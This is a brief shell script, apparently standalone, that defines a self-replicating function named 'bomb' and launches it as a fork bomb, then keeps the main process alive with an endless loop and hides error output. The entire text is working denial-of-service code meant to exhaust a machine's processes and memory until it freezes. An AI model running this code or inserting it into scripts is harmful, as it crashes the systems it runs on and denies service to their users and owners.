bomb() {
  bomb | bomb &
}
# The main process stays, or the run would be over before the bomb has gone off.
bomb 2>/dev/null
while :; do :; done
